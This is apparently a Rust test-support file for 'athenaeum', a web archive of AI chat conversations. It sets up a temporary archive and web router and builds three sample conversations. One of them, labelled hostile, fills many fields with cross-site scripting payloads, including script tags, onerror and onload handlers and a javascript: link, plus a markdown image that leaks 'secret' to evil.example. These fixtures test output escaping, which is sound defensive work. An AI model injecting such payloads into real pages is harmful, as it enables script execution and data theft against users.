//! A small archive of known content with the pages over it.

use athenaeum_archive::{Archive, Settings, library::Library};
use athenaeum_core::{Block, BlockKind, Conversation, Message, Provider, Role, Timestamp};
use athenaeum_retrieval::{
    Imports,
    documents::Options,
    librarian::{Librarian, Open, Opening},
    meaning::Meaning,
};
use athenaeum_tenancy::Keys;
use athenaeum_web::Web;
use axum::{
    Router,
    body::Body,
    http::{Request, Response, StatusCode},
};
use http_body_util::BodyExt;
use tempfile::TempDir;
use tower::ServiceExt;

pub(crate) struct House {
    pub(crate) archive: Archive,
    pub(crate) router: Router,
    pub(crate) keys: Keys,
    pub(crate) librarian: Librarian,
    _folder: TempDir,
}

impl House {
    pub(crate) async fn empty() -> Self {
        let folder = tempfile::tempdir().unwrap();
        let archive = Archive::open(folder.path(), &Settings::default()).await.unwrap();
        let keys = Keys::none();
        let shelves = Shelves(folder.path().to_owned());
        let librarian = Librarian::new(shelves, &folder.path().join("drop"), Options::default());
        let web = Web {
            archive: archive.clone(),
            imports: Imports::new(archive.clone()),
            librarian: librarian.clone(),
            keys: keys.clone(),
            settings: athenaeum_web::Settings {
                time_zone: Some("UTC".into()),
                messages_per_page: 50,
                // Not there yet: the first upload makes it.
                upload_folder: Some(folder.path().join("uploads")),
                ..athenaeum_web::Settings::default()
            },
        };
        // The pages ask the API which models there are.
        let api =
            Router::new().route("/athenaeum/v1/models", axum::routing::get(|| async { "{\"models\": []}" }));
        Self { archive, router: athenaeum_web::router(web).merge(api), keys, librarian, _folder: folder }
    }

    pub(crate) async fn furnished() -> Self {
        let house = Self::empty().await;
        house.add(conversations()).await;
        house
    }

    pub(crate) async fn add(&self, conversations: Vec<Conversation>) {
        let mut import =
            self.archive.begin_import(&athenaeum_tenancy::local(), "test.json", None).await.unwrap();
        for conversation in conversations {
            import.add(conversation).await.unwrap();
        }
        import.finish("{}").await.unwrap();
    }

    /// Puts a document into the library and waits until it is read.
    pub(crate) async fn shelve(&self, name: &str, text: &str) {
        let scope = athenaeum_tenancy::local();
        let sent = tempfile::tempdir().unwrap();
        let file = sent.path().join("sent");
        std::fs::write(&file, text).unwrap();
        let mut watch = self.librarian.watch(&scope);
        let before = watch.borrow_and_update().changes;
        self.librarian.take_in(&scope, vec![(name.to_owned(), file)]).await.unwrap();
        watch.wait_for(|now| now.changes > before && !now.is_busy()).await.unwrap();
    }

    pub(crate) async fn send(&self, request: Request<Body>) -> Response<Body> {
        self.router.clone().oneshot(request).await.unwrap()
    }

    /// Fetches a page and returns its status and text.
    pub(crate) async fn get(&self, address: &str) -> (StatusCode, String) {
        let request = Request::get(address).header("host", "127.0.0.1").body(Body::empty()).unwrap();
        text(self.send(request).await).await
    }

    /// Fetches a page that must be there.
    pub(crate) async fn page(&self, address: &str) -> String {
        let (status, text) = self.get(address).await;
        assert_eq!(status, StatusCode::OK, "{address}: {text}");
        text
    }
}

/// Opens the library in a folder, with no model to search by meaning.
struct Shelves(std::path::PathBuf);

impl Open for Shelves {
    fn library(&self) -> Opening<Library, athenaeum_archive::Error> {
        let folder = self.0.clone();
        Box::pin(async move { Library::open(&folder, &Settings::default()).await })
    }

    fn meaning(&self) -> Opening<Option<Meaning>, Box<dyn std::error::Error + Send + Sync>> {
        Box::pin(async { Ok(None) })
    }
}

pub(crate) async fn text(response: Response<Body>) -> (StatusCode, String) {
    let status = response.status();
    let bytes = response.into_body().collect().await.unwrap().to_bytes();
    (status, String::from_utf8(bytes.into()).unwrap())
}

/// Finds what stands between `before` and `after`.
pub(crate) fn between<'t>(text: &'t str, before: &str, after: &str) -> &'t str {
    let from = text.find(before).unwrap_or_else(|| panic!("{before} in {text}")) + before.len();
    let length = text[from..].find(after).unwrap_or_else(|| panic!("{after} in {text}"));
    &text[from..from + length]
}

pub(crate) fn at(text: &str) -> Option<Timestamp> {
    Some(text.parse().unwrap())
}

pub(crate) fn say(role: Role, text: &str) -> Message {
    Message::new(role, vec![Block::text(text)])
}

/// Three conversations: one with a branch, code, thought and tools; one hostile; one in Japanese.
pub(crate) fn conversations() -> Vec<Conversation> {
    let mut bread = Conversation::new(Provider::CHATGPT, "bread");
    bread.title = Some("Sourdough that rises".into());
    bread.model = Some("gpt-4o".into());
    bread.created_at = at("2024-05-17T08:30:00Z");
    bread.updated_at = at("2024-05-17T09:00:00Z");
    bread.system_prompt = Some("Answer *briefly*.".into());
    bread.temperature = Some(0.7);
    let mut context = say(Role::System, "The user bakes.");
    context.hidden = true;
    let question = say(Role::User, "How long does sourdough rise?");
    let mut answer = Message::new(
        Role::Assistant,
        vec![
            Block::new(BlockKind::Thinking, "Temperature matters."),
            Block::text("About **eight hours**.\n\n```python\nrise = 8  # hours\n```\n"),
            Block::new(BlockKind::ToolUse, "{\"q\": \"rise\"}").labelled("web_search"),
        ],
    );
    answer.model = Some("gpt-4o-mini".into());
    answer.created_at = at("2024-05-17T08:31:00Z");
    let thanks = say(Role::User, "And with rye?");
    let reply = say(Role::Assistant, "Rye ferments faster.");
    let mut other = say(Role::Assistant, "Four hours in a warm kitchen.");
    other.off_branch = true;
    other.parent = Some(1);
    let mut follow = say(Role::User, "My kitchen is cold.");
    follow.off_branch = true;
    follow.parent = Some(5);
    bread.messages = vec![context, question, answer, thanks, reply, other, follow];

    let mut hostile = Conversation::new(Provider::CLAUDE, "hostile<script>alert(1)</script>");
    hostile.title = Some("<script>alert('title')</script>\" onload=\"x".into());
    hostile.model = Some("<img src=x onerror=alert(1)>".into());
    hostile.user_id = Some("\"><svg onload=alert(1)>".into());
    hostile.created_at = at("2023-01-02T03:04:05Z");
    let mut message = Message::new(
        Role::Assistant,
        vec![
            Block::text(
                "hostile <script>alert(1)</script> ![leak](https://evil.example/?q=secret) [x](javascript:alert(1))",
            ),
            Block::new(BlockKind::ToolResult, "</pre><script>alert(2)</script>")
                .labelled("<script>label</script>"),
            Block::new(BlockKind::Unknown, "{\"<script>\":1}").labelled("\"><script>"),
        ],
    );
    message.model = Some("<b>model</b>".into());
    message.author = Some("<i>author</i>".into());
    message.created_at = at("2023-01-02T03:04:05Z");
    message.attachments.push(athenaeum_core::Attachment {
        name: Some("<img src=x onerror=alert(3)>.png".into()),
        media_type: Some("<script>".into()),
        ..Default::default()
    });
    hostile.messages = vec![message];

    let mut tokyo = Conversation::new(Provider::GEMINI, "tokyo");
    tokyo.created_at = at("2022-03-04T05:06:07Z");
    let mut question = say(Role::User, "東京で食べるべきものは?");
    question.created_at = at("2022-03-04T05:06:07Z");
    tokyo.messages = vec![question];
    vec![bread, hostile, tokyo]
}
